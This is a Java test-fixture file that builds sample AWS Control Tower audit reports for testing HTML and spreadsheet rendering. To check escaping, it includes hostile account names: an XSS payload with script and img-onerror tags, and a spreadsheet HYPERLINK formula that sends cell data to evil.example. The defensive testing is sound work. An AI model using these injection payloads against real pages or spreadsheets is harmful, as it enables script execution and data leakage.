package com.auditremediation.core.report;

import com.auditremediation.core.catalog.CheckCatalog;
import com.auditremediation.core.catalog.CheckDescriptor;
import com.auditremediation.core.catalog.Severity;
import com.auditremediation.core.error.ErrorCode;
import com.auditremediation.core.model.AccountSelection;
import com.auditremediation.core.model.AccountItem;
import com.auditremediation.core.model.AccountStatus;
import com.auditremediation.core.model.AcceptedRisk;
import com.auditremediation.core.model.CheckResult;
import com.auditremediation.core.model.ExceptionNote;
import com.auditremediation.core.model.ExceptionRule;
import com.auditremediation.core.model.ExceptionsReport;
import com.auditremediation.core.model.CheckStatus;
import com.auditremediation.core.model.FindingsDelivery;
import com.auditremediation.core.model.FindingsSummary;
import com.auditremediation.core.model.Mode;
import com.auditremediation.core.model.Report;
import com.auditremediation.core.model.ReportRow;
import com.auditremediation.core.model.RunContext;
import com.auditremediation.core.model.Summary;
import com.auditremediation.core.model.SweepChanges;
import java.util.ArrayList;
import java.util.EnumMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

/**
 * Reports shaped as BuildReport writes them (rows failures first; summary, failure and check counts derived from the
 * rows), with names that a member account could choose to attack a spreadsheet or a page.
 */
final class SampleReports {

    static final String ROLE = "aws-controltower-AdministratorExecutionRole";
    static final String HOSTILE_NAME = "<script>document.title='pwned'</script><img src=x onerror=\"alert(1)\">\"' & co";
    static final String FORMULA_NAME = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    static final String AWKWARD_NAME = "ops, \"shared\"\nsecond line";
    static final String OU_PROD = "ou-7f3k-q9x2m4ab";
    static final String OU_SANDBOX = "ou-7f3k-w81hz2cd";
    static final String ROOT = "r-7f3k";

    private SampleReports() {
    }

    /** Ids of 40 checks for a large page: the shipped ones first, then likely ones of the catalog's next issues. */
    static final List<String> FORTY_CHECKS = List.of("caller-identity", "iam-password-policy", "s3-account-public-access-block",
            "ebs-default-encryption", "root-account-hygiene", "config-recorder", "guardduty-enabled", "iam-console-user-mfa",
            "iam-unused-credentials", "vpc-default-security-group", "iam-support-role", "emr-block-public-access", "security-contact",
            "cloudtrail-multi-region", "cloudtrail-log-validation", "kms-key-rotation", "ebs-snapshot-public", "ami-public",
            "ssm-document-public", "ecr-scan-on-push", "inspector-enabled", "macie-enabled", "access-analyzer-enabled",
            "iam-root-access-keys", "iam-policy-admin-star", "iam-server-certificates-expired", "vpc-flow-logs",
            "network-acl-admin-ports", "security-group-admin-ports", "imds-v2-default", "ebs-snapshot-block-public-access",
            "ami-block-public-access", "vpc-block-public-access", "ssm-session-logging", "securityhub-enabled",
            "securityhub-standards", "control-tower-drift", "alternate-contact-billing", "alternate-contact-operations",
            "s3-bucket-ssl-only");

    /** A catalog for the sample checks and the forty: severities spread over every level, every third check without a fix. */
    static CheckCatalog catalog() {
        Severity[] severities = {Severity.LOW, Severity.MEDIUM, Severity.MEDIUM, Severity.MEDIUM, Severity.CRITICAL, Severity.CRITICAL,
                Severity.HIGH, Severity.MEDIUM, Severity.MEDIUM, Severity.HIGH};
        List<CheckDescriptor> descriptors = new ArrayList<>();
        for (int i = 0; i < FORTY_CHECKS.size(); i++) {
            String id = FORTY_CHECKS.get(i);
            CheckDescriptor.Builder builder = CheckDescriptor.builder(id).title("Check " + id.replace('-', ' '))
                    .controls("Ctl." + (i + 1)).severity(severities[i % severities.length]).reads("iam:GetAccountSummary")
                    .recommendation("Fix " + id + ".");
            if (!id.equals("root-account-hygiene") && !id.equals("caller-identity") && i % 3 != 2) {
                builder.fixes("iam:UpdateAccountPasswordPolicy");
            }
            if (id.equals("ebs-default-encryption")) {
                builder.regional();
            }
            descriptors.add(builder.build());
        }
        return CheckCatalog.of(descriptors);
    }

    /** The report page's format with {@link #catalog()}. */
    static HtmlReportFormat htmlFormat() {
        CheckCatalog catalog = catalog();
        return new HtmlReportFormat(() -> catalog::find);
    }

    /**
     * {@code count} accounts in nine OUs (three levels deep), {@code checks} checks of {@link #FORTY_CHECKS} (one of them
     * regional, in two regions), long names, a failure every 50th account and one result in six non-compliant; with
     * changes since a previous sweep marked on some of them.
     */
    static Report large(int count, int checks) {
        List<String> ids = FORTY_CHECKS.subList(0, checks);
        String[] units = {"ou-7f3k-a1", "ou-7f3k-a2", "ou-7f3k-b1", "ou-7f3k-b2", "ou-7f3k-b3", "ou-7f3k-c1", "ou-7f3k-c2", "ou-7f3k-c3", ROOT};
        Map<String, String> paths = new LinkedHashMap<>();
        String[] names = {"Workloads/Prod", "Workloads/Non-Prod", "Workloads/Prod/Payments and settlements", "Sandbox",
                "Security", "Infrastructure/Shared services/Networking", "Infrastructure/Shared services/Identity", "Suspended", "Root"};
        for (int i = 0; i < units.length; i++) {
            paths.put(units[i], names[i]);
        }
        List<ReportRow> rows = new ArrayList<>();
        List<SweepChanges.AccountChanges> changed = new ArrayList<>();
        for (int n = 1; n <= count; n++) {
            int i = n;
            String name = (i % 10 == 0 ? "a-very-long-account-name-for-the-payments-settlement-platform-" : "workload-") + String.format("%04d", i);
            String unit = units[i % units.length];
            if (i % 50 == 0) {
                rows.add(failed(i, name, unit, ErrorCode.ROLE_NOT_ASSUMABLE, "Could not assume arn:aws:iam::" + accountId(i) + ":role/" + ROLE
                        + " (AccessDenied). Is the account enrolled in Control Tower, and does the execution role trust the Audit account?", null));
                continue;
            }
            List<CheckResult> results = new ArrayList<>();
            List<SweepChanges.ResultRef> newlyFailing = new ArrayList<>();
            for (int c = 0; c < ids.size(); c++) {
                String id = ids.get(c);
                CheckStatus status = (i * 7 + c * 13) % 6 == 0 ? CheckStatus.NON_COMPLIANT
                        : (i + c) % 23 == 0 ? CheckStatus.NOT_APPLICABLE : (i + c) % 31 == 0 ? CheckStatus.ERROR : CheckStatus.COMPLIANT;
                String detail = status == CheckStatus.COMPLIANT ? null : status == CheckStatus.ERROR ? "could not read: AccessDenied"
                        : id + " fails: the setting read does not meet the baseline, and a long explanation follows so that the message wraps in a"
                        + " narrow column, which the old page did, one or two words a line";
                if (id.equals("ebs-default-encryption")) {
                    results.add(new CheckResult(id, "eu-west-1", status, detail, null, null));
                    results.add(CheckResult.compliant(id, "us-east-1"));
                } else {
                    results.add(new CheckResult(id, null, status, detail, null, null));
                }
                if (status == CheckStatus.NON_COMPLIANT && i % 9 == 0) {
                    newlyFailing.add(new SweepChanges.ResultRef(id, id.equals("ebs-default-encryption") ? "eu-west-1" : null));
                }
            }
            rows.add(ReportRow.checked(new AccountItem(accountId(i), name, unit), AccountStatus.SUCCEEDED, null, null, results, 1_000L + i));
            List<SweepChanges.ResultRef> resolved = results.stream().filter(result -> result.status() == CheckStatus.COMPLIANT)
                    .filter(result -> (i + result.checkId().length()) % 37 == 0)
                    .map(result -> new SweepChanges.ResultRef(result.checkId(), result.region())).toList();
            if (!newlyFailing.isEmpty() || !resolved.isEmpty()) {
                changed.add(new SweepChanges.AccountChanges(accountId(i), name, unit, null, newlyFailing.isEmpty() ? null : newlyFailing,
                        resolved.isEmpty() ? null : resolved, null, null));
            }
        }
        rows.sort(java.util.Comparator.comparing(row -> row.status() == AccountStatus.FAILED ? 0 : 1));
        Map<String, SweepChanges.ResultCounts> byCheck = new LinkedHashMap<>();
        for (String id : ids) {
            int newly = (int) changed.stream().filter(change -> change.newlyFailing() != null)
                    .flatMap(change -> change.newlyFailing().stream()).filter(ref -> ref.checkId().equals(id)).count();
            int resolved = (int) changed.stream().filter(change -> change.resolved() != null)
                    .flatMap(change -> change.resolved().stream()).filter(ref -> ref.checkId().equals(id)).count();
            if (newly + resolved > 0) {
                byCheck.put(id, new SweepChanges.ResultCounts(newly, resolved, 0, 0));
            }
        }
        int newly = byCheck.values().stream().mapToInt(SweepChanges.ResultCounts::newlyFailing).sum();
        int resolved = byCheck.values().stream().mapToInt(SweepChanges.ResultCounts::resolved).sum();
        Report report = report(rows, 0, null, null);
        report = Report.of(report.executionName(), report.startedAt(), report.finishedAt(),
                        new RunContext(ROLE, Mode.AUDIT, ids, List.of("eu-west-1", "us-east-1")), report.summary(), report.failuresByCode(), rows)
                .withScope(AccountSelection.wholeOrganization(List.of()), paths);
        return report.withChanges(new SweepChanges(SweepChanges.Basis.SAME_SCOPE,
                new SweepChanges.PreviousSweep("sweep-20250228T100000Z", "2025-02-28T10:00:00Z", "s3://bucket/reports/2025/02/28/x/report.json"),
                null, new SweepChanges.Compared(count, ids, List.of("eu-west-1", "us-east-1")),
                new SweepChanges.Counts(newly, resolved, 0, 0, 0, 0), byCheck, changed));
    }

    static String accountId(int i) {
        return String.valueOf(210_000_000_000L + i * 7_919L);
    }

    /** Twelve accounts in three OUs: every account status, every check status, two regions, hostile names. */
    static Report mixed() {
        List<ReportRow> rows = new ArrayList<>();
        rows.add(failed(1, "legacy-unenrolled", ROOT, ErrorCode.ROLE_NOT_ASSUMABLE,
                "Could not assume arn:aws:iam::" + accountId(1) + ":role/" + ROLE + " (AccessDenied). Is the account enrolled in Control Tower?", null));
        rows.add(failed(2, HOSTILE_NAME, OU_SANDBOX, ErrorCode.ROLE_NOT_ASSUMABLE,
                "Could not assume the role in " + accountId(2) + " (AccessDenied) <b>bold?</b>", null));
        rows.add(failed(3, "payments-prod", OU_PROD, ErrorCode.CHECK_FAILED,
                "Checks that could not complete in " + accountId(3) + ": iam-password-policy (see each check's detail)", List.of(
                        CheckResult.compliant("caller-identity", null),
                        CheckResult.error("iam-password-policy", null, "could not read: Iam AccessDenied"),
                        regional("ebs-default-encryption", "eu-west-1", CheckStatus.COMPLIANT),
                        regional("ebs-default-encryption", "us-east-1", CheckStatus.NON_COMPLIANT))));
        rows.add(failed(4, "search-prod", OU_PROD, ErrorCode.THROTTLED, "sts:AssumeRole was throttled (Throttling) after the SDK's retries", null));
        rows.add(skipped(5, "management", ROOT, ErrorCode.MANAGEMENT_ACCOUNT, "the management account has no Control Tower execution role"));
        rows.add(skipped(6, "sandbox-retired", OU_SANDBOX, ErrorCode.ACCOUNT_NOT_ACTIVE, "the account is SUSPENDED, not ACTIVE; only ACTIVE accounts are swept"));
        rows.add(succeeded(7, "web-prod", OU_PROD, CheckStatus.COMPLIANT));
        rows.add(succeeded(8, FORMULA_NAME, OU_SANDBOX, CheckStatus.NON_COMPLIANT));
        rows.add(succeeded(9, AWKWARD_NAME, OU_SANDBOX, CheckStatus.COMPLIANT));
        rows.add(succeeded(10, "analytics-prod", OU_PROD, CheckStatus.REMEDIATED));
        rows.add(succeeded(11, "-pricing-dev", OU_SANDBOX, CheckStatus.NON_COMPLIANT));
        rows.add(succeeded(12, "identity-prod", OU_PROD, CheckStatus.COMPLIANT));
        return report(rows, 2, null, null);
    }

    /**
     * {@link #mixed()} swept with the Security Hub export on: the rows named in {@code deliveries} say that, every
     * other row with results exported each of them; the summary adds them up. Without deliveries, all were exported.
     */
    static Report securityHub(Map<String, FindingsDelivery> deliveries) {
        List<ReportRow> rows = mixed().accounts().stream().map(row -> row.checks() == null ? row
                : row.withFindings(deliveries.getOrDefault(row.accountName(), new FindingsDelivery(row.checks().size(), 0, 0, Map.of(), null))))
                .toList();
        return report(rows, 2, null, null);
    }

    /** {@link #securityHub}: three accounts without Security Hub (one in neither region), one under a role that may not import. */
    static Report partlyExported() {
        return securityHub(Map.of("web-prod", notEnabledInUsEast1(5, 1), "identity-prod", notEnabledInUsEast1(5, 1),
                "-pricing-dev", new FindingsDelivery(0, 6, 0, Map.of(FindingsDelivery.NOT_ENABLED, 6),
                        "Security Hub is not enabled in eu-west-1 (5 skipped); Security Hub is not enabled in us-east-1 (1 skipped)"),
                "analytics-prod", accessDenied(6)));
    }

    /** {@code skipped} findings skipped because Security Hub is not enabled in us-east-1, the others exported. */
    static FindingsDelivery notEnabledInUsEast1(int exported, int skipped) {
        return new FindingsDelivery(exported, skipped, 0, Map.of(FindingsDelivery.NOT_ENABLED, skipped),
                "Security Hub is not enabled in us-east-1 (" + skipped + " skipped)");
    }

    /** Every one of {@code refused} findings refused with AccessDenied, as under the read-only execution role. */
    static FindingsDelivery accessDenied(int refused) {
        return new FindingsDelivery(0, 0, refused, Map.of(FindingsDelivery.ACCESS_DENIED, refused),
                "securityhub:BatchImportFindings in eu-west-1 was denied (AccessDeniedException): the execution role may not import"
                        + " findings; the read-only role cannot (" + refused + " refused)");
    }

    /**
     * {@link #mixed()} with accepted risks: {@link #FORMULA_NAME}'s root-account-hygiene by exceptions file entry 0 (it
     * expires on the report's day + 10, so soon), -pricing-dev's EBS in eu-west-1 by a suppression in Security Hub;
     * their other NON_COMPLIANT results still need work. Entry 1 is in force and covers nothing here, entry 2 expired.
     */
    static Report excepted() {
        List<ReportRow> rows = new ArrayList<>();
        for (ReportRow row : mixed().accounts()) {
            if (row.checks() == null || !(FORMULA_NAME.equals(row.accountName()) || "-pricing-dev".equals(row.accountName()))) {
                rows.add(row);
                continue;
            }
            List<CheckResult> checks = row.checks().stream().map(check -> {
                if (check.status() == CheckStatus.NON_COMPLIANT && FORMULA_NAME.equals(row.accountName()) && check.checkId().equals("root-account-hygiene")) {
                    return check.withException(ENTRY_0.risk());
                }
                if (check.status() == CheckStatus.NON_COMPLIANT && "-pricing-dev".equals(row.accountName()) && "eu-west-1".equals(check.region())) {
                    return check.withException(AcceptedRisk.fromSecurityHub("arn:aws:securityhub:eu-west-1:" + accountId(11)
                            + ":security-control/EC2.7/finding/1", "=known: no EBS volumes in this account", "alice@example.com",
                            "2025-02-20T09:00:00Z"));
                }
                return check;
            }).toList();
            rows.add(new ReportRow(row.accountId(), row.accountName(), row.ouId(), row.status(), row.errorCode(), row.errorMessage(),
                    row.compliance(), checks, row.durationMs(), row.findings()));
        }
        Report report = mixed();
        ExceptionRule entry1 = new ExceptionRule(1, true, List.of("ebs-default-encryption"), List.of("ap-south-1"), "region not in use",
                "platform@example.com", "2025-12-31", null);
        return Report.of(report.executionName(), report.startedAt(), report.finishedAt(), report.context(),
                        com.auditremediation.core.report.ReportCounts.summarize(rows, 2), report.failuresByCode(), rows)
                .withExceptions(new ExceptionsReport("s3://reports-bucket/config/exceptions.yaml", "v3", 3,
                        Map.of("file", 1, "securityhub", 1), List.of(ExceptionNote.of(ENTRY_0, 1), ExceptionNote.of(entry1, 0)),
                        List.of(ExceptionNote.of(ENTRY_0, 1)), 1, List.of(new ExceptionNote(2, List.of("iam-password-policy"),
                        "identity-team@example.com", "2025-01-31", "migration to SSO", "SEC-7", null))));
    }

    /** The exceptions file entry of {@link #excepted()}: root-account-hygiene in one account, expiring 10 days after the report. */
    static final ExceptionRule ENTRY_0 = new ExceptionRule(0, null, List.of("root-account-hygiene"), null,
            "break-glass account: root MFA is held by the vault team", "security@example.com", "2025-03-11", "SEC-42");

    /** {@link #mixed()} as BuildReport trims it when it would not fit: failures and skips only, with the note. */
    static Report truncated() {
        Report whole = mixed();
        List<ReportRow> kept = whole.accounts().stream().filter(row -> row.status() != AccountStatus.SUCCEEDED).toList();
        return whole.truncatedTo(kept, "The report was too large for the execution's output (256 KiB): "
                + (whole.accounts().size() - kept.size()) + " SUCCEEDED rows were left out; counts cover every account.");
    }

    /** A generated organisation of {@code count} accounts, a failure every seventh, for screenshots of a longer page. */
    static Report generated(int count) {
        List<ReportRow> rows = new ArrayList<>();
        String[] units = {OU_PROD, OU_SANDBOX, ROOT};
        for (int i = 1; i <= count; i++) {
            String name = "workload-" + String.format("%03d", i);
            String unit = units[i % units.length];
            rows.add(i % 7 == 0 ? failed(i, name, unit, ErrorCode.ROLE_NOT_ASSUMABLE, "Could not assume the role (AccessDenied)", null)
                    : succeeded(i, name, unit, i % 5 == 0 ? CheckStatus.NON_COMPLIANT : CheckStatus.COMPLIANT));
        }
        rows.sort(java.util.Comparator.comparing(row -> row.status() == AccountStatus.FAILED ? 0 : 1));
        return report(rows, 0, null, null);
    }

    static Report report(List<ReportRow> rows, int excluded, Boolean truncated, String note) {
        Map<ErrorCode, Integer> failures = new TreeMap<>();
        Map<String, Map<CheckStatus, Integer>> checks = new LinkedHashMap<>();
        int succeeded = 0;
        int failed = 0;
        int skipped = 0;
        for (ReportRow row : rows) {
            switch (row.status()) {
                case SUCCEEDED -> succeeded++;
                case FAILED -> {
                    failed++;
                    failures.merge(row.errorCode(), 1, Integer::sum);
                }
                case SKIPPED -> skipped++;
            }
            if (row.checks() != null) {
                row.checks().forEach(check -> checks.computeIfAbsent(check.checkId(), id -> new EnumMap<>(CheckStatus.class))
                        .merge(check.status(), 1, Integer::sum));
            }
        }
        RunContext context = new RunContext(ROLE, Mode.AUDIT, List.of("caller-identity", "iam-password-policy",
                "s3-account-public-access-block", "ebs-default-encryption", "root-account-hygiene"), List.of("eu-west-1", "us-east-1"));
        Report report = Report.of("sweep-20250301T100000Z", "2025-03-01T10:00:00.123Z", "2025-03-01T10:04:12.500Z", context,
                Summary.of(rows.size(), succeeded, failed, skipped, excluded, checks)
                        .withFindings(FindingsSummary.of(rows.stream().map(ReportRow::findings).toList())), failures, rows);
        return Boolean.TRUE.equals(truncated) ? report.truncatedTo(rows, note) : report.withNote(note);
    }

    private static ReportRow failed(int i, String name, String ou, ErrorCode code, String message, List<CheckResult> checks) {
        return ReportRow.checked(new AccountItem(accountId(i), name, ou), AccountStatus.FAILED, code, message, checks, 200L + i);
    }

    private static ReportRow skipped(int i, String name, String ou, ErrorCode code, String message) {
        return ReportRow.skipped(new AccountItem(accountId(i), name, ou), code, message);
    }

    /** Every shipped check; those that can be fixed have {@code status} (EBS in two regions), caller-identity passes. */
    private static ReportRow succeeded(int i, String name, String ou, CheckStatus status) {
        boolean compliant = status == CheckStatus.COMPLIANT;
        List<CheckResult> checks = List.of(
                CheckResult.compliant("caller-identity", null,
                        "arn:aws:sts::" + accountId(i) + ":assumed-role/" + ROLE + "/audit-remediation-sweep"),
                compliant ? CheckResult.compliant("iam-password-policy", null)
                        : new CheckResult("iam-password-policy", null, status, "password policy below the baseline: MinimumPasswordLength 8 (needs 14 or more)",
                        Map.of("MinimumPasswordLength", 8), status == CheckStatus.REMEDIATED ? Map.of("MinimumPasswordLength", 14) : null),
                CheckResult.compliant("s3-account-public-access-block", null),
                regional("ebs-default-encryption", "eu-west-1", status),
                regional("ebs-default-encryption", "us-east-1", CheckStatus.COMPLIANT),
                compliant ? CheckResult.compliant("root-account-hygiene", null)
                        : CheckResult.nonCompliant("root-account-hygiene", null, "a person must enable MFA on the root user",
                        Map.of("AccountMFAEnabled", 0)));
        return ReportRow.checked(new AccountItem(accountId(i), name, ou), AccountStatus.SUCCEEDED, null, null, checks, 1_200L + i * 13L);
    }

    private static CheckResult regional(String checkId, String region, CheckStatus status) {
        return status == CheckStatus.COMPLIANT ? CheckResult.compliant(checkId, region)
                : new CheckResult(checkId, region, status, "new EBS volumes are not encrypted by default in this region",
                Map.of("EbsEncryptionByDefault", false), status == CheckStatus.REMEDIATED ? Map.of("EbsEncryptionByDefault", true) : null);
    }
}
